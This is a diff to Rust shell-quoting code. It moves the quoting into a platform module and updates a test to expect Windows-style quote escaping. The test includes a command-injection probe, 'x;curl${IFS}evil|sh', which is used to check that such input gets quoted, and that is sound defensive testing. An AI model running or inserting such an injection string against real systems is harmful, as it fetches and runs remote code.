@@ -5,6 +5,8 @@
 
 use std::fmt;
 
+use crate::sys;
+
 /// Returns a count as texts and JSON take it.
 pub fn number(count: usize) -> u64 {
     u64::try_from(count).unwrap_or(u64::MAX)
@@ -71,7 +73,7 @@ pub fn shell_value(word: &str) -> String {
     if !word.is_empty() && !word.starts_with('-') && word.chars().all(plain) {
         return word.into();
     }
-    format!("'{}'", word.replace('\'', "'\\''"))
+    sys::quoted(word)
 }
 
 fn escape(text: impl Iterator<Item = char>) -> String {
@@ -129,7 +131,11 @@ mod tests {
     fn a_name_in_a_command_is_a_name_and_nothing_else() {
         assert_eq!(shell_word("shop_2.eu-x"), "shop_2.eu-x");
         assert_eq!(shell_word("x;curl${IFS}evil|sh"), "'x;curl${IFS}evil|sh'");
-        assert_eq!(shell_word("it's"), "'it'\\''s'");
+        let quoted = match cfg!(windows) {
+            true => "'it''s'",
+            false => "'it'\\''s'",
+        };
+        assert_eq!(shell_word("it's"), quoted);
         assert_eq!(shell_word("--config=/x"), "-- '--config=/x'");
     }
 
